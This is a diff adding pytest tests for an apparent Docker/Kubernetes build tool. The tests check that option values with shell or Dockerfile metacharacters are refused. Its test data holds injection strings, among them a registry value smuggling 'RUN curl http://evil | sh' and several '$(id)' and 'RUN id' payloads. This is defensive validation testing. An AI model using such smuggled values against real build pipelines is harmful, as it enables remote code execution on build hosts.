@@ -5,6 +5,7 @@ Docker-engine and Kubernetes tests run these same functions end to end."""
 from __future__ import annotations
 
 import json
+import re
 
 import pytest
 
@@ -470,6 +471,29 @@ def test_two_mounts_of_one_host_file_are_both_given_to_docker(tmp_path):
                   for m in client.runs[0]["mounts"]) == [
         ("/etc/kafka/client.properties", str(props), "bind", True),
         ("/opt/ml/client.properties", str(props), "bind", True)]
+
+
+# ---- #33: option values with shell or Dockerfile metacharacters ----------------------------
+
+@pytest.mark.parametrize("key, value, message", [
+    # written into the image reference: the build's tag and the manifests' image
+    ("registry", "registry.example.org/fink\nRUN curl http://evil | sh", "registry="),
+    ("registry", "registry.example.org/fink;id", "registry="),
+    # a variable no pod allows (the API server refused it at apply, after build and push)
+    ("env.MY VAR", "1", "env.MY VAR: 'MY VAR' is not a variable name"),
+    ("env.X\nRUN id", "1", "is not a variable name"),
+    ("env.$(id)", "1", "is not a variable name"),
+])
+def test_values_that_would_leave_their_place_are_refused(key, value, message):
+    with pytest.raises(opts.OptionError, match=re.escape(message)):
+        opts.resolve({key: value})
+
+
+def test_values_of_variables_and_labels_are_kept_verbatim():
+    odd = "it's \"$(id)\"; `id` $HOME \\ |\nRUN id"
+    spec = spec_of(plan(**{"env.GREETING": odd, "label.note": odd,
+                           "registry": "registry.example.org:5000/fink"}))
+    assert spec.env["GREETING"] == odd and spec.labels["note"] == odd
 
 
 def test_an_update_drops_the_other_backends_keys_stored_before_they_were_refused():
